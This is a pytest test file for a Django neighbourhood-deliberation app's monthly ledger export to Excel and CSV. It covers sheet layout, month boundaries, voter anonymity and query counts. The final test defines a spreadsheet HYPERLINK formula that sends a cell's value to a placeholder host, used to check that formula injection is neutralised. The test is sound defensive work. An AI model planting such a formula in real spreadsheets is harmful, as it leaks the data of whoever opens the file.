"""台账 workbook and CSV: one proposal through to an evaluated task, read back with openpyxl."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from community.models import Building, Membership, MembershipStatus, ServiceBrand, User
from community.roles import Role
from deliberation.meetings import services as ms
from deliberation.models import (
    Ballot,
    Evaluation,
    GovernanceTask,
    MeetingElector,
    Objection,
    Participation,
    ProgressReport,
    Rating,
    Resolution,
    TaskEvent,
    TaskState,
)
from deliberation.results.services import result_publish_if_complete
from deliberation.taizhang import rows as tz
from deliberation.taizhang.csvfile import csv_bytes
from deliberation.taizhang.xlsx import workbook_bytes
from deliberation.tasks.workflow import task_transition
from deliberation.votes import services as sv
from forum.models import Proposal, ProposalEvent, ProposalState
from forum.workflow import proposal_transition
from tests.community.factories import HallFactory, member
from tests.deliberation.tasks.factories import effective_resolution
from tests.deliberation.votes.factories import make_ballot, voters

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
OCTOBER = tz.Month(2026, 10)
NOVEMBER = tz.Month(2026, 11)
SHEET_NAMES = ["议题", "会议", "表决", "决议", "任务", "说明"]


def at(month: int, day: int, hour: int = 10, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=SHANGHAI)


def october_story(hall) -> dict:
    """A proposal posted, met on, voted, resolved, objected to, implemented and evaluated in
    October 2026 (times pinned with update(): the services stamp "now")."""
    head = member(hall, Role.HEAD, display_name="黄秀芬")
    # First, while the electorate is small enough for its three votes to make the quorum.
    res = effective_resolution(hall, head, title="修复小区喷泉决议")
    mod = member(hall, Role.MODERATOR, display_name="陈红")
    rec = member(hall, Role.RECORDER, display_name="林芳")
    owner = member(hall, Role.VOLUNTEER, display_name="李志愿")
    brand = ServiceBrand.objects.get_or_create(hall=hall, name="花满名苑")[0]
    building = Building.objects.get_or_create(compound=hall.compound, name="3栋")[0]
    proposal = res.proposal
    ballot = res.ballot
    # Voters get names we can look for: they must appear nowhere in the export.
    voter_ids = list(Participation.objects.filter(ballot=ballot).values_list("user_id", flat=True))
    for i, uid in enumerate(voter_ids):
        User.objects.filter(pk=uid).update(display_name=f"秘密投票人{i}")
    Proposal.objects.filter(pk=proposal.pk).update(
        title="修复小区喷泉", brand=brand, building=building, published_at=at(10, 3, 9)
    )
    for i, event in enumerate(ProposalEvent.objects.filter(proposal=proposal).order_by("pk")):
        ProposalEvent.objects.filter(pk=event.pk).update(at=at(10, 3 + i, 9))
    Ballot.objects.filter(pk=ballot.pk).update(title="是否修复喷泉", closed_at=at(10, 15, 20))
    Resolution.objects.filter(pk=res.pk).update(
        published_at=at(10, 16), notice_ends_at=at(10, 23), effective_at=at(10, 23)
    )
    objector = member(hall)
    Objection.objects.create(
        resolution=res,
        author=objector,
        reason="喷泉噪音影响休息",
        lodged_at=at(10, 18),
        answer="夜间关闭喷泉",
        upheld=False,
        answered_by=head,
        answered_at=at(10, 19),
    )
    # A meeting with three people checked in.
    meeting = ms.meeting_schedule(
        actor=head,
        hall=hall,
        title="十月议事会",
        starts_at=at(12, 1, 19, 30),
        venue="妇女微家活动室",
        moderator=mod,
        recorder=rec,
        free_items=[("喷泉维修方案", None), ("其他事项", None)],
    )
    ms.meeting_open(actor=mod, meeting=meeting)
    for person in (head, rec, owner):
        ms.meeting_check_in_member(actor=mod, meeting=meeting, user_id=person.pk)
    ms.meeting_close(actor=mod, meeting=meeting)
    type(meeting).objects.filter(pk=meeting.pk).update(
        starts_at=at(10, 12, 19, 30), opened_at=at(10, 12, 19, 30), closed_at=at(10, 12, 21)
    )
    # The task, done two days late; the result published; four ratings.
    proposal_transition(proposal=proposal, to=ProposalState.IMPLEMENTING, actor=head)
    task = GovernanceTask.objects.create(
        hall=hall,
        resolution=res,
        title="更换喷泉水泵",
        brand=brand,
        building=building,
        owner=owner,
        due_on=date(2026, 10, 28),
        created_by=head,
        created_at=at(10, 24, 9),
    )
    task_transition(task=task, to=TaskState.IN_PROGRESS, actor=owner, now=at(10, 25))
    ProgressReport.objects.create(task=task, author=owner, body="已采购水泵", created_at=at(10, 26))
    task_transition(task=task, to=TaskState.DONE, actor=owner, now=at(10, 30, 15))
    result = result_publish_if_complete(resolution=res, now=at(10, 30, 15))
    for rating in (Rating.SATISFIED, Rating.SATISFIED, Rating.BASICALLY, Rating.DISSATISFIED):
        Evaluation.objects.create(result=result, user=member(hall), rating=rating)
    return {
        "head": head,
        "proposal": Proposal.objects.get(pk=proposal.pk),
        "ballot": Ballot.objects.get(pk=ballot.pk),
        "resolution": res,
        "meeting": meeting,
        "task": task,
        "voter_names": [f"秘密投票人{i}" for i in range(len(voter_ids))],
    }


def workbook(hall, month=OCTOBER, **kw):
    data = workbook_bytes(hall, month, tz.all_tables(hall, month, **kw))
    return load_workbook(io.BytesIO(data))


def records(ws) -> list[dict]:
    headers = [c.value for c in ws[1]]
    return [
        dict(zip(headers, row, strict=False)) for row in ws.iter_rows(min_row=2, values_only=True)
    ]


def as_date(value):
    return value.date() if isinstance(value, datetime) else value


@pytest.fixture
def story(hall):
    return october_story(hall)


def test_sheets_headers_and_format(hall, story):
    wb = workbook(hall, today=date(2026, 11, 29))
    assert wb.sheetnames == SHEET_NAMES
    expected = {
        "议题": tz.PROPOSAL_HEADERS,
        "会议": tz.MEETING_HEADERS,
        "表决": tz.BALLOT_HEADERS,
        "决议": tz.RESOLUTION_HEADERS,
        "任务": tz.TASK_HEADERS,
    }
    for title, headers in expected.items():
        ws = wb[title]
        assert [c.value for c in ws[1]] == headers
        assert all(c.font.bold for c in ws[1])
        assert ws.freeze_panes == "A2"
        assert all(ws.column_dimensions[c.column_letter].width >= 6 for c in ws[1])
    assert wb["议题"]["A1"].value == "编号" and wb["任务"]["J1"].value == "进度"
    assert hall.name in wb.properties.title and "2026年10月" in wb.properties.title
    info = {row[0]: row[1] for row in wb["说明"].iter_rows(values_only=True) if row and row[0]}
    assert info["月份"] == "2026年10月" and hall.name in info["议事厅"]
    assert info["议题"] == 1 and info["任务"] == 1


def test_rows_of_the_story(hall, story):
    wb = workbook(hall, today=date(2026, 11, 29))

    [p] = records(wb["议题"])
    assert p["编号"] == story["proposal"].pk
    assert (p["标题"], p["服务品牌"], p["涉及楼栋"]) == ("修复小区喷泉", "花满名苑", "3栋")
    assert p["发布时间"] == datetime(2026, 10, 3, 9, 0)  # naive Asia/Shanghai
    assert wb["议题"]["F2"].number_format == "yyyy-mm-dd hh:mm"
    assert (p["当前状态"], p["表决结果"]) == ("已办结", "通过")
    assert p["状态记录"].startswith("征集中（10-03） → 待受理（10-04）")
    assert "已办结" in p["状态记录"]

    [m] = records(wb["会议"])
    # 应到 as it stood when the meeting opened: the four raters joined afterwards.
    electorate = MeetingElector.objects.filter(meeting__title="十月议事会").count()
    now = Membership.objects.filter(hall=hall, status=MembershipStatus.ACTIVE).count()
    assert electorate == now - 4
    assert m["会议名称"] == "十月议事会"
    assert m["开始时间"] == datetime(2026, 10, 12, 19, 30)
    assert (m["地点"], m["主持人"], m["记录员"], m["状态"]) == (
        "妇女微家活动室",
        "陈红",
        "林芳",
        "已结束",
    )
    assert (m["应到人数"], m["实到人数"]) == (electorate, 3)
    assert m["是否达到法定人数"] == ("是" if 3 >= m["法定人数"] else "否")
    assert m["议程项"] == "1. 喷泉维修方案\n2. 其他事项"

    [b] = records(wb["表决"])
    ballot = story["ballot"]
    assert (b["表决事项"], b["议题"], b["表决类型"]) == (
        "是否修复喷泉",
        "修复小区喷泉",
        "赞成/反对/弃权",
    )
    assert (b["记名方式"], b["表决场合"]) == ("无记名", "线上表决")
    assert (b["应到人数"], b["投票人数"]) == (ballot.electorate_size, 3)
    assert b["投票率"] == pytest.approx(3 / ballot.electorate_size)
    assert (b["赞成"], b["反对"], b["弃权"]) == (3, 0, 0)
    assert b["各选项票数"] == "赞成：3\n反对：0\n弃权：0"
    assert (b["表决结果"], b["结束时间"]) == ("通过", datetime(2026, 10, 15, 20, 0))

    [r] = records(wb["决议"])
    assert r["决议标题"] == "修复小区喷泉决议"
    assert (r["公示时间"], r["公示截止"]) == (
        datetime(2026, 10, 16, 10),
        datetime(2026, 10, 23, 10),
    )
    assert (r["状态"], r["异议数"]) == ("已生效", 1)
    assert r["异议及答复"] == "1. 喷泉噪音影响休息\n   异议不成立，答复：夜间关闭喷泉"

    [t] = records(wb["任务"])
    assert (t["任务名称"], t["所属决议"], t["服务品牌"]) == (
        "更换喷泉水泵",
        "修复小区喷泉决议",
        "花满名苑",
    )
    assert (t["地点"], t["执行负责人"], t["状态"]) == ("3栋", "李志愿", "已完成")
    assert as_date(t["完成期限"]) == date(2026, 10, 28)
    assert t["进度"] == 1 and wb["任务"]["J2"].number_format == "0%"
    assert t["逾期"] == "逾期完成"
    assert t["完成时间"] == datetime(2026, 10, 30, 15, 0)
    assert t["进展报告数"] == 1
    assert (t["评议轮次"], t["满意"], t["基本满意"], t["不满意"]) == (1, 2, 1, 1)
    assert t["满意率"] == pytest.approx(0.75)


def all_text(wb) -> str:
    return "\n".join(
        str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if v
    )


def test_no_voter_is_named_for_secret_or_named_ballots(hall, story):
    mod = member(hall, Role.MODERATOR)
    people = voters(hall, 2)
    named = make_ballot(hall, mod, secret=False, title="是否夜间关闭喷泉")
    for i, person in enumerate(people):
        User.objects.filter(pk=person.pk).update(display_name=f"记名投票人{i}")
        person.refresh_from_db()
        sv.ballot_cast(voter=person, ballot=named, choices=["for" if i else "against"])
    sv.ballot_close(actor=mod, ballot=named)
    Ballot.objects.filter(pk=named.pk).update(closed_at=at(10, 20))
    wb = workbook(hall)
    text = all_text(wb)
    for who in [*story["voter_names"], "记名投票人0", "记名投票人1"]:
        assert who not in text
    rows = {r["表决事项"]: r for r in records(wb["表决"])}
    assert rows["是否夜间关闭喷泉"]["记名方式"] == "记名"
    assert (rows["是否夜间关闭喷泉"]["赞成"], rows["是否夜间关闭喷泉"]["反对"]) == (1, 1)


def test_an_event_late_on_31_october_in_shanghai_belongs_to_october(hall):
    author = member(hall)
    late = Proposal.objects.create(hall=hall, author=author, title="十月最后半小时", body="x")
    first = Proposal.objects.create(hall=hall, author=author, title="十一月第一分钟", body="x")
    # 23:30 in Shanghai is 15:30 UTC; midnight on 1 November is 16:00 UTC on 31 October.
    Proposal.objects.filter(pk=late.pk).update(published_at=at(10, 31, 23, 30))
    Proposal.objects.filter(pk=first.pk).update(published_at=at(11, 1, 0, 0))
    assert at(11, 1).astimezone(ZoneInfo("UTC")).day == 1
    _h, october = tz.proposal_rows(hall, OCTOBER)
    _h, november = tz.proposal_rows(hall, NOVEMBER)
    assert [r[1] for r in october] == ["十月最后半小时"]
    assert [r[1] for r in november] == ["十一月第一分钟"]
    assert october[0][5] == datetime(2026, 10, 31, 23, 30)
    wb = workbook(hall)
    assert wb["议题"]["F2"].value == datetime(2026, 10, 31, 23, 30)


def test_tasks_active_in_the_month(hall):
    head = member(hall, Role.HEAD)
    res = effective_resolution(hall, head)
    proposal_transition(proposal=res.proposal, to=ProposalState.IMPLEMENTING, actor=head)

    def task(title, created):
        return GovernanceTask.objects.create(
            hall=hall, resolution=res, title=title, owner=head, due_on=date(2026, 10, 20),
            created_by=head, created_at=created,
        )  # fmt: skip

    done_before = task("九月底完成", at(9, 1))
    task_transition(task=done_before, to=TaskState.IN_PROGRESS, now=at(9, 2))
    task_transition(task=done_before, to=TaskState.DONE, now=at(9, 30, 23, 59))
    done_in = task("十月一日完成", at(9, 1))
    task_transition(task=done_in, to=TaskState.IN_PROGRESS, now=at(9, 2))
    task_transition(task=done_in, to=TaskState.DONE, now=at(10, 1, 0, 10))
    cancelled_before = task("九月取消", at(9, 1))
    task_transition(task=cancelled_before, to=TaskState.CANCELLED, note="重复", now=at(9, 5))
    cancelled_in = task("十月取消", at(9, 1))
    task_transition(task=cancelled_in, to=TaskState.CANCELLED, note="重复", now=at(10, 5))
    task("九月创建仍在进行", at(9, 1))
    task("十一月创建", at(11, 1, 0, 0))
    _h, rows = tz.task_rows(hall, OCTOBER, today=date(2026, 11, 29))
    got = {r[0]: r for r in rows}
    assert set(got) == {"十月一日完成", "十月取消", "九月创建仍在进行"}
    assert got["九月创建仍在进行"][10] == "是"  # open, due 20 October
    assert got["十月取消"][8] == "重复"
    assert got["十月一日完成"][10] == "否"
    assert TaskEvent.objects.filter(task=cancelled_in, to_state=TaskState.CANCELLED).exists()


def test_empty_month_has_headers_and_a_note(hall):
    wb = workbook(hall, tz.Month(2025, 1))
    assert wb.sheetnames == SHEET_NAMES
    for title in SHEET_NAMES[:-1]:
        ws = wb[title]
        assert ws.max_row == 2 and ws["A2"].value == "本月无记录"
        assert ws["A1"].font.bold


def test_csv_with_bom_decodes_in_chinese(hall, story):
    headers, rows = tz.sheet_table(
        tz.SHEETS_BY_KEY["tasks"], hall, OCTOBER, today=date(2026, 11, 29)
    )
    data = csv_bytes(headers, rows)
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == tz.TASK_HEADERS
    row = dict(zip(table[0], table[1], strict=True))
    assert row["任务名称"] == "更换喷泉水泵"
    assert row["完成期限"] == "2026-10-28" and row["完成时间"] == "2026-10-30 15:00"
    assert row["进度"] == "100%" and row["满意率"] == "75%"
    empty = csv_bytes(tz.MEETING_HEADERS, [])
    assert list(csv.reader(io.StringIO(empty.decode("utf-8-sig")))) == [tz.MEETING_HEADERS]


def test_month_parse():
    assert tz.Month.parse("2026-10") == OCTOBER
    assert str(tz.Month.parse("2026-3")) == "2026-03"
    for bad in ("", "2026-13", "2026/10", "202610", "october", "1999-01"):
        with pytest.raises(Exception) as exc:
            tz.Month.parse(bad)
        assert "月" in str(exc.value) or "年" in str(exc.value)
    assert OCTOBER.start == datetime(2026, 10, 1, tzinfo=SHANGHAI)
    assert OCTOBER.end == datetime(2026, 11, 1, tzinfo=SHANGHAI)
    assert tz.Month(2026, 12).next() == tz.Month(2027, 1)
    assert tz.Month(2026, 1).previous() == tz.Month(2025, 12)


def _queries(hall) -> int:
    with CaptureQueriesContext(connection) as ctx:
        tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29))
    return len(ctx.captured_queries)


def _again(hall) -> None:
    """The story once more in the same hall (earlier people leave, so the new vote has a quorum)."""
    Membership.objects.filter(hall=hall).update(status=MembershipStatus.LEFT)
    october_story(hall)


def test_query_count_does_not_grow_with_rows(hall, django_assert_max_num_queries):
    october_story(hall)
    HallFactory(compound=hall.compound)  # a neighbour hall's rows never count
    one = _queries(hall)
    _again(hall)
    _again(hall)
    assert len(tz.all_tables(hall, OCTOBER)[0][1][1]) == 3
    assert _queries(hall) == one
    with django_assert_max_num_queries(15):
        tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29))


FORMULA = '=HYPERLINK("http://example.invalid/?leak="&B2,"点我查看")'


def test_titles_that_look_like_formulas_stay_text(hall, story):
    """A resident's title starting with = + - @ is text in the workbook and in the CSV."""
    Proposal.objects.filter(pk=story["proposal"].pk).update(title=FORMULA)
    GovernanceTask.objects.filter(pk=story["task"].pk).update(title="+1+1")
    Ballot.objects.filter(pk=story["ballot"].pk).update(title="@SUM(A1:A9)")
    Objection.objects.filter(resolution=story["resolution"]).update(reason="-2+3")
    data = workbook_bytes(hall, OCTOBER, tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29)))
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]
    for sheet, (headers, rows) in tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29)):
        text = csv_bytes(headers, rows).decode("utf-8-sig")
        for line in csv.reader(io.StringIO(text)):
            for value in line:
                assert not value.startswith(("=", "+", "@")), (sheet.title, value)
                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
    headers, rows = tz.sheet_table(
        tz.SHEETS_BY_KEY["tasks"], hall, OCTOBER, today=date(2026, 11, 29)
    )
    table = list(csv.reader(io.StringIO(csv_bytes(headers, rows).decode("utf-8-sig"))))
    assert dict(zip(table[0], table[1], strict=True))["任务名称"] == "'+1+1"
